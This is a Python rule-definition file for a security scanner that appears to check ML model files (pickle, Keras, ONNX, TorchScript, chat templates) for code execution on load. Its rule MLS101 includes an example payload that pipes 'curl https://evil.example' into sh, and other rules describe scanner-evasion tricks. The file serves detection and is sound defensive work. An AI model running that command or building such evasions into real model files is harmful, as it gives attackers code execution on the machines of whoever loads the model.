"""The rules of mlsec-artifacts: code execution in model files."""

from __future__ import annotations

from hooks._core.rules import RuleBook

BOOK = RuleBook("artifacts")

DANGEROUS_CALL_IN_PICKLE = BOOK.rule(
    "MLS101",
    "DangerousCallInPickle",
    "critical",
    "Pickle reaches a known-dangerous callable",
    cwe=502,
    what=(
        "A pickle in the file imports or calls a global that runs commands, evaluates code, imports "
        "modules, reads or writes files, opens connections or loads another pickle (os.system, "
        "builtins.exec, subprocess, runpy, pip's main, ...)."
    ),
    why=(
        "Loading the file (pickle.load, torch.load, joblib.load, numpy with allow_pickle, "
        "pandas.read_pickle) calls it with the arguments stored in the file: the payload runs on the "
        "machine of whoever loads the model, with their credentials."
    ),
    example=(
        "A checkpoint whose data.pkl contains `GLOBAL 'posix system'` followed by `REDUCE` on the string "
        "`curl https://evil.example | sh`."
    ),
    fix=(
        "Do not load the file. Rebuild the model from trusted code and weights and save it in a format "
        "without code (safetensors, ONNX); find out where the file came from. `mlsec explain FILE` shows "
        "what it would do."
    ),
    references=(
        "https://docs.python.org/3/library/pickle.html",
        "https://huggingface.co/docs/hub/security-pickle",
    ),
)
GLOBAL_OUTSIDE_ALLOWLIST = BOOK.rule(
    "MLS102",
    "GlobalOutsideAllowlist",
    "high",
    "Pickle imports a global outside the allowlist",
    cwe=502,
    what=(
        "A pickle imports a global that is not an exact (module, name) pair of the allowlist of "
        "framework classes that real ML files use."
    ),
    why=(
        "Any importable callable can be reached through a pickle, so a global nobody vetted may run code "
        "on load; denylists of dangerous names are bypassed again and again, so anything not known to be "
        "safe is reported."
    ),
    example="A scikit-learn pipeline pickled with your own transformer class `mypkg.features.Scaler`.",
    fix=(
        "If the global is your own class and has no custom `__reduce__`/`__setstate__` that reaches "
        "files, processes or the network, add it to `artifacts.allow_globals` in `.mlsec.yaml` with a "
        "reason; otherwise treat the file as untrusted."
    ),
    references=("https://docs.python.org/3/library/pickle.html#restricting-globals",),
)
OBFUSCATED_IMPORT = BOOK.rule(
    "MLS103",
    "ObfuscatedImport",
    "critical",
    "Obfuscated import in a pickle",
    cwe=502,
    what=(
        "A global whose name is computed at load time (STACK_GLOBAL on non-literal operands), taken from "
        "copyreg's extension registry (EXT1/2/4), or a dotted name that walks attributes out of an "
        "allowed module."
    ),
    why=(
        "Real serialisers write literal module and class names. Computed, registry-based or dotted names "
        "exist to hide the callable from scanners that read names literally (several CVEs against "
        "picklescan-style scanners used exactly this)."
    ),
    example=(
        "A STACK_GLOBAL whose module name is assembled from memo entries, or an EXT2 code that copyreg "
        "maps to a callable."
    ),
    fix="Do not load the file; treat it as hostile and find out where it came from.",
    references=("https://docs.python.org/3/library/pickle.html",),
)
SPECIAL_ATTRIBUTE_INJECTION = BOOK.rule(
    "MLS104",
    "SpecialAttributeInjection",
    "critical",
    "Pickle BUILD injects a special attribute",
    cwe=502,
    what=(
        "A BUILD opcode sets `__setstate__`, `__reduce__` or another special attribute on an object; sets "
        "attributes on an imported class or function itself (a patch for the whole process); or the file "
        "plants a function where the loader or a library calls it: `append`/`extend`/`add` of an object "
        "APPEND or ADDITEMS fills, or `keys`/`items`/`values` (and, inside a BUILD state, `get`/`pop`/"
        "`update`) of an object handed to a call or to a class's `__setstate__`. A partial planted under "
        "any other name of such an object is judged as called, by what it wraps."
    ),
    why=(
        "The injected attribute makes a later BUILD, or ordinary use of the object after loading, call "
        "attacker-chosen code: the payload runs at a time when nobody is looking (the Sleepy Pickle "
        "pattern)."
    ),
    example="BUILD on an allowed class with the state `{'__setstate__': <callable>}`.",
    fix="Do not load the file; rebuild the model from trusted code.",
    references=("https://blog.trailofbits.com/2024/06/11/exploiting-ml-models-with-pickle-file-attacks-part-1/",),
)
DATA_AFTER_PICKLE = BOOK.rule(
    "MLS105",
    "DataAfterPickle",
    "high",
    "Data after the pickle stream",
    cwe=506,
    what=(
        "Bytes follow the pickle's STOP opcode. A shelve's data file (`name.dat` of dbm.dumb) with the `.dir` "
        "index beside it is read as the index says instead: each record as the one pickle shelve unpickles, "
        "and bytes between records that are not padding (old values written over) are reported low."
    ),
    why=(
        "Loaders that read several streams (torch's legacy format reads several pickles in a row; custom "
        "readers loop over pickle.load) execute a second stream there, while scanners that stop at the "
        "first STOP never see it; trailing data is also where payloads are staged."
    ),
    example="A valid model pickle followed by a second stream that calls os.system.",
    fix=(
        "Re-save the model from a trusted process so the file holds exactly one stream; if the trailing "
        "data is expected (a custom container), approve the file by hash in `artifacts.approved`."
    ),
    references=("https://docs.python.org/3/library/pickle.html",),
)
PICKLE_ZIP_POLYGLOT = BOOK.rule(
    "MLS106",
    "PickleZipPolyglot",
    "critical",
    "Polyglot pickle and zip file",
    cwe=434,
    what="The file is a pickle at offset 0 and a zip archive at its end.",
    why=(
        "pickle.load and torch.load's legacy path run the pickle at the start, while zip-based scanners "
        "inspect only the archive: each tool sees a different file."
    ),
    example="A `.pt` file made by prepending a malicious pickle to a clean torch zip checkpoint.",
    fix="Do not load the file; re-export the model from trusted code.",
    references=("https://pkware.cachefly.net/webdocs/casestudies/APPNOTE.TXT",),
)
ZIP_STRUCTURE_ANOMALY = BOOK.rule(
    "MLS107",
    "ZipStructureAnomaly",
    "high",
    "Zip structure anomaly",
    cwe=434,
    what=(
        "Zip structure anomalies: local and central directory names differ, a name is duplicated, a CRC "
        "does not match, or a member is flagged encrypted."
    ),
    why=(
        "Model loaders tolerate these (torch's zip reader does not check CRCs), so a scanner that trusts "
        "Python's zipfile can inspect different bytes than the loader runs."
    ),
    example=(
        "A torch checkpoint whose central directory lists a clean `archive/data.pkl` while its local "
        "header holds another."
    ),
    fix=("Re-save the model with the framework's own writer (torch.save, numpy.savez) from a trusted process."),
    references=("https://pkware.cachefly.net/webdocs/casestudies/APPNOTE.TXT",),
)
KERAS_LAMBDA_LAYER = BOOK.rule(
    "MLS108",
    "KerasLambdaLayer",
    "high",
    "Keras Lambda layer",
    cwe=502,
    what="A Keras model file contains a Lambda layer.",
    why=(
        "The layer stores marshalled Python bytecode, which runs when the model is loaded with "
        "safe_mode=False or from the legacy HDF5 format (CVE-2024-3660)."
    ),
    example='model.keras whose config.json has `"class_name": "Lambda"` with a base64 `function` field.',
    fix=(
        "Replace the Lambda layer with a registered custom layer and re-save; load files from outside "
        "only with safe_mode=True."
    ),
    references=(
        "https://keras.io/api/layers/core_layers/lambda/",
        "https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
    ),
)
KERAS_CUSTOM_OBJECT = BOOK.rule(
    "MLS109",
    "KerasCustomObject",
    "medium",
    "Keras custom object",
    cwe=829,
    what="A Keras model refers to a class outside Keras (a custom object).",
    why=(
        "Loading the model imports that module and runs its code; whoever controls the module, or names "
        "a module that happens to be installed, chooses what runs."
    ),
    example='config.json naming `"module": "mypkg.layers", "class_name": "Attention"`.',
    fix=(
        "Make sure the module is yours and reviewed; register the class explicitly (custom_objects / "
        "register_keras_serializable) rather than relying on import by name."
    ),
    references=("https://keras.io/guides/serialization_and_saving/",),
)
APPROVED_ARTIFACT_CHANGED = BOOK.rule(
    "MLS110",
    "ApprovedArtifactChanged",
    "medium",
    "Approved artifact changed",
    cwe=494,
    what="A file listed under `artifacts.approved` no longer has the reviewed sha256.",
    why=(
        "The approval covered specific bytes; any change (a retrain, or a tampered file) needs a new "
        "review before it is trusted again."
    ),
    example="models/legacy.pkl was approved with one sha256 and has since been overwritten.",
    fix="Review the new file (`mlsec explain`), then update its sha256 and reason in `.mlsec.yaml`.",
)
MODEL_WITHOUT_GATE_RECORD = BOOK.rule(
    "MLS111",
    "ModelWithoutGateRecord",
    "medium",
    "Model without a passing gate record",
    cwe=1357,
    what=(
        "`artifacts.require_gate_record` is on, and this model file has no `<model>.gate.json` beside it "
        "whose verdict is pass for the file's current sha256 (no record, a failing one, or one written "
        "for an older version of the file)."
    ),
    why="A model that was never judged by `mlsec gate`, or changed after it, reaches the repository unchecked.",
    example="models/clf.joblib retrained and committed without running `mlsec gate` again",
    fix="Run `mlsec gate --model models/clf.joblib` and commit the record it writes with the model.",
)
# Formats beyond pickle (issue 18): graphs, configs and templates that run code or reach files.
UNSAFE_GRAPH_OPERATION = BOOK.rule(
    "MLS120",
    "UnsafeGraphOperation",
    "high",
    "TensorFlow graph operation reaches files, Python or the network",
    cwe=94,
    what=(
        "A SavedModel or frozen graph holds an operation that runs Python (PyFunc, EagerPyFunc), reads or"
        " writes files (ReadFile, WriteFile, MatchingFiles, ...) or prints to a file when the graph runs."
        " Real exported models do not need them; rebuild the model without them."
    ),
    why=(
        "The graph runs these operations when the model is served or called: anyone who can change the "
        "file can run Python or read and write files on the serving machine."
    ),
    fix=(
        "Re-export the model from its training code without `tf.py_function`/file operations in the "
        "serving graph, and load models only from sources you trust."
    ),
)
EXTERNAL_DATA_ESCAPE = BOOK.rule(
    "MLS121",
    "ExternalDataEscape",
    "high",
    "Model data read from outside its folder",
    cwe=22,
    what=(
        "An ONNX tensor's external data `location` is absolute or climbs out of the model's folder with"
        " `..`: loading reads an arbitrary file (the class of CVE-2024-27318/27319). Keep external data"
        " files next to the model and name them relatively."
    ),
    why=(
        "onnx and onnxruntime read the external file the model names when it is loaded: a shared model "
        "can exfiltrate or overwrite files of whoever loads it."
    ),
    fix=(
        "Save external data with a relative location inside the model folder"
        ' (`onnx.save_model(..., location="weights.bin")`), and reject models that point elsewhere.'
    ),
)
CUSTOM_OPERATOR = BOOK.rule(
    "MLS122",
    "CustomOperator",
    "medium",
    "Model needs a custom operator",
    cwe=829,
    what=(
        "An ONNX node's domain is neither ONNX's, onnxruntime's built-in one nor a function the model"
        " defines: inference loads native code from the library that registers it. Make sure that"
        " library is yours and reviewed."
    ),
    why=(
        "The operator is implemented by a native library registered at inference time; the model cannot "
        "run without loading that code, which the model file does not show."
    ),
    fix=(
        "Check that the custom-op library is yours, pinned and reviewed; if the op is not needed, export "
        "with standard ONNX operators only."
    ),
)
TENSOR_METADATA_INCONSISTENT = BOOK.rule(
    "MLS123",
    "TensorMetadataInconsistent",
    "high",
    "Tensor metadata that cannot be true",
    cwe=787,
    what=(
        "Counts, sizes, dimensions or offsets in a model header overflow, point outside the file, overlap"
        " or disagree with the data (ONNX, GGUF, safetensors). Parsers in native code have been exploited"
        " through exactly these fields (GGUF heap overflows); a writer never produces them."
    ),
    why=(
        "Readers written in C and C++ trust these fields to size buffers; inconsistent values have been "
        "used for heap overflows in GGUF and ONNX parsers."
    ),
    fix=(
        "Regenerate the file with the library that owns the format; do not load a file whose header "
        "contradicts its data."
    ),
)
TEMPLATE_SANDBOX_ESCAPE = BOOK.rule(
    "MLS124",
    "TemplateSandboxEscape",
    "critical",
    "Chat template reaches Python internals",
    cwe=1336,
    what=(
        "A Jinja chat template (GGUF `tokenizer.chat_template`, Hugging Face tokenizer config or"
        " `chat_template.jinja`) uses dunder attributes, `attr` filters or names like `os`, `import`,"
        " `popen`: the pattern of sandbox escapes that run commands when the template is rendered"
        " (CVE-2024-34359 in llama-cpp-python). Real chat templates only format messages."
    ),
    why=(
        "Chat templates are rendered on every request by servers such as llama-cpp-python and "
        "text-generation-inference; a template that reaches Python internals runs commands on the server."
    ),
    fix=(
        "Replace the template with the model family's published one, and render templates in a sandboxed "
        "Jinja environment only."
    ),
)
REMOTE_CODE_REFERENCE = BOOK.rule(
    "MLS125",
    "RemoteCodeReference",
    "medium",
    "Model folder needs custom code to load",
    cwe=829,
    what=(
        "A Hugging Face `config.json` or tokenizer config has an `auto_map`: loading with"
        " `trust_remote_code=True` imports and runs the named Python modules. Code from another"
        " repository (`owner/repo--module.Class`) is reported medium, code in this folder low."
    ),
    why=(
        "`trust_remote_code=True` imports and runs the named module; code fetched from another repository"
        " can change after review."
    ),
    fix=(
        "Prefer a model whose architecture is in transformers itself; otherwise vendor the code into this"
        " folder, review it, and pin the revision you load."
    ),
)
DANGEROUS_CONFIG_TARGET = BOOK.rule(
    "MLS126",
    "DangerousConfigTarget",
    "critical",
    "Config instantiates a dangerous callable",
    cwe=94,
    what=(
        "A Hydra/OmegaConf `_target_` (in a `.nemo` model's `model_config.yaml` or a committed config)"
        " names a callable that runs commands, evaluates code, imports modules or touches files:"
        " `hydra.utils.instantiate` calls it when the config is loaded (the class of the 2025 NeMo"
        " advisories)."
    ),
    why=(
        "`hydra.utils.instantiate` calls whatever `_target_` names with the config's arguments as soon as"
        " the config is loaded: a shared model or config becomes a command."
    ),
    fix=(
        "Point `_target_` at your model classes only, and load configs from untrusted sources without "
        "instantiating them."
    ),
)
MLFLOW_MODEL_RUNS_CODE = BOOK.rule(
    "MLS127",
    "MlflowModelRunsCode",
    "medium",
    "MLflow model runs custom code on load",
    cwe=829,
    what=(
        "An `MLmodel` file's python_function flavour loads through a module outside MLflow"
        " (`loader_module`) or ships `code` paths that `mlflow.pyfunc.load_model` puts on sys.path"
        " and imports. Review the named code; pickled python models next to it are analysed too."
    ),
    why=(
        "`mlflow.pyfunc.load_model` imports the loader module and the code paths before returning the "
        "model, so loading the model runs that code."
    ),
    fix=(
        "Review the loader module and code paths as code; prefer a built-in MLflow flavour, and load "
        "models only from registries you control."
    ),
)
KERAS_DANGEROUS_REFERENCE = BOOK.rule(
    "MLS128",
    "KerasDangerousReference",
    "critical",
    "Keras config reaches a dangerous function",
    cwe=94,
    what=(
        "The model config names a function that runs commands, evaluates code, imports modules or"
        " reads, writes or downloads files (`builtins.exec`, `os.system`, `keras.utils.get_file`, ...)."
        " Keras resolves such names even with safe_mode on (the class of CVE-2025-1550 and CVE-2025-8747)."
    ),
    why=(
        "Keras deserialises these references by importing and calling them, even with `safe_mode=True`, "
        "so loading the model runs the function."
    ),
    fix=(
        "Rebuild the model from its code so the config only names Keras layers and your own registered "
        "objects; never load such a file."
    ),
)
KERAS_EXTERNAL_RESOURCE = BOOK.rule(
    "MLS129",
    "KerasExternalResource",
    "medium",
    "Keras layer reads a file or URL on load",
    cwe=73,
    what=(
        "A lookup or vectorization layer's vocabulary (or another path-like setting) names a file path or"
        " URL that loading reads: a model can read files of the machine that loads it into its weights."
        " Store the vocabulary in the model instead."
    ),
    why=(
        "Loading reads the named file or URL into the model: a model can carry local files (keys, "
        "credentials) into weights that are later shared, or fetch content from an attacker."
    ),
    fix="Adapt the layer on a vocabulary list and save it inside the model (`vocabulary=[...]`), not a path.",
)
# Loader-faithful reading (issue 13): code and pointers that are not pickle.
TORCHSCRIPT_FILE_ACCESS = BOOK.rule(
    "MLS130",
    "TorchScriptFileAccess",
    "high",
    "TorchScript code touches files",
    cwe=502,
    what=(
        "The archive's TorchScript code (its `code/` folder, compiled and run by torch.jit.load and by "
        "torch.load) calls an operator that reads, maps or creates files (`torch.from_file`, ...). A "
        "scripted `__setstate__` runs it at load time; any method runs it on use."
    ),
    why=(
        "TorchScript code is not pickle: an allowlist of pickle globals never sees it, and `__torch__` classes"
        " are allowed wholesale, so a scripted module can map or create files on the machine that loads it."
    ),
    example="A scripted module whose `__setstate__` calls `torch.from_file(path, True, 16)` (creates the file).",
    fix="Do not load the archive; export the weights as safetensors and script the model from reviewed code.",
)
GIT_LFS_POINTER = BOOK.rule(
    "MLS131",
    "GitLfsPointer",
    "medium",
    "Model is a Git LFS pointer",
    cwe=20,
    run_wide=True,
    what=(
        "The file is a Git LFS pointer (a few lines naming the object's sha256), not the model: the model "
        "itself was not available to analyse, so it cannot be shown safe. A pointer under a name that is "
        "no model or archive (an image, a document, a dataset) is reported low. LFS objects are fetched for "
        "a whole checkout or not at all, so this is one decision: reported once per run, on the first file "
        "it concerns, saying how many more it concerns (every file keeps its own verdict in the cache)."
    ),
    why=(
        "A check that passes a pointer has checked nothing: the real model arrives later (on `git lfs pull`)"
        " without ever being analysed."
    ),
    example="`model.safetensors` committed through Git LFS, scanned in CI by a checkout without `lfs: true`.",
    fix="Fetch the LFS objects before scanning (`git lfs pull`; `lfs: true` in actions/checkout).",
)
ARTIFACT_UNPARSEABLE = BOOK.rule(
    "MLS901",
    "ArtifactUnparseable",
    "high",
    "Artifact could not be parsed",
    cwe=20,
    what=(
        "A file in a model format (by its bytes or its name) that is corrupt, truncated, uses an unknown "
        "opcode or an unsupported compression."
    ),
    why=(
        "A file that cannot be fully analysed may hide anything; loaders still run every opcode before "
        "the break, so it is reported rather than passed (fail closed). A short printable-text file "
        "whose pickle breaks before any opcode that imports, calls or builds an object is reported low: "
        "every unpickler raises at that byte having run nothing, and text holds no other container a "
        "loader could read instead (a broken test fixture, or a note named like a model)."
    ),
    fix=(
        "Re-export the file from the framework that wrote it; if it is not a model, rename it or exclude "
        "its path in `.mlsec.yaml`."
    ),
)
UNKNOWN_ARTIFACT_FORMAT = BOOK.rule(
    "MLS902",
    "UnknownArtifactFormat",
    "high",
    "Named like an artifact, in no known format",
    cwe=20,
    what=(
        "The file is named like a model artifact (.pkl, .pt, .bin, .npy, ...) but its content is in no "
        "format the hook recognises. An empty file is reported low: every loader fails on it before "
        "running anything. So is a document, an image or macOS metadata known by its magic (an Office "
        "file's embedded `oleObject1.bin`, a JPEG, a PDF, the AppleDouble `__MACOSX/._m.npy` a Mac's "
        "archiver adds beside each file), unless a zip end record stands where PyTorch's reader finds "
        "one (69,653 bytes from the end), and so is printable text up to 8 MiB (a template, an XML "
        "model or a JSON state file named `.p`, `.tar.gz` or `.ckpt`): pickle and the loaders built on "
        "it refuse its first byte. So is one byte value repeated to the end (up to 256 MiB; a placeholder "
        "or a truncated write): no format and no program fits in it. OpenVINO IR weights, a headerless "
        "`.bin`, are read as such when the IR `.xml` of the same name describes them (its constants' "
        "ranges end where the file does). An hnswlib index is read as one: `saveIndex`'s file, whole, "
        "and the files of a Chroma segment (`header.bin`, `data_level0.bin`, `length.bin`, "
        "`link_lists.bin`) beside a `header.bin` whose every field is one hnswlib writes, each of the "
        "size that header gives it; neither is one when a pickle loader would act on its first bytes "
        "or a container stands in it."
    ),
    why=(
        "A loader may still read it (pickle.load reads from byte 0 whatever the name), and the hook "
        "cannot show it safe."
    ),
    fix=(
        "Rename files that are not models, or exclude their paths in `.mlsec.yaml`; re-save real models "
        "with their framework."
    ),
)
ANALYSIS_LIMIT = BOOK.rule(
    "MLS903",
    "AnalysisLimit",
    "high",
    "Artifact analysis limit reached",
    cwe=400,
    what=(
        "A size, decompression ratio, nesting depth, opcode count or time limit was reached while analysing the file."
    ),
    why=(
        "Limits keep a hostile file from exhausting time or memory; what lies past the limit was not "
        "analysed, so the file is not passed."
    ),
    fix=(
        "If the file is legitimate, raise `artifacts.max_seconds`, `artifacts.max_decompressed_mb` or "
        "`artifacts.max_depth` in `.mlsec.yaml`."
    ),
)
ARCHIVE_NOT_INSPECTABLE = BOOK.rule(
    "MLS904",
    "ArchiveNotInspectable",
    "medium",
    "Archive cannot be inspected here",
    cwe=20,
    what=(
        "A 7z archive needs the optional reader: `pip install mlsec-hooks[7z]`. RAR archives and 7z"
        " compression methods the reader lacks cannot be opened here at all."
    ),
    why="Its members cannot be read, so what they hold is unknown.",
    fix=(
        "Install the reader (`pip install mlsec-hooks[7z]`, or add py7zr to the hook's `additional_dependencies`);"
        " for RAR or an unsupported 7z method, ship the model as a zip or tar instead."
    ),
)
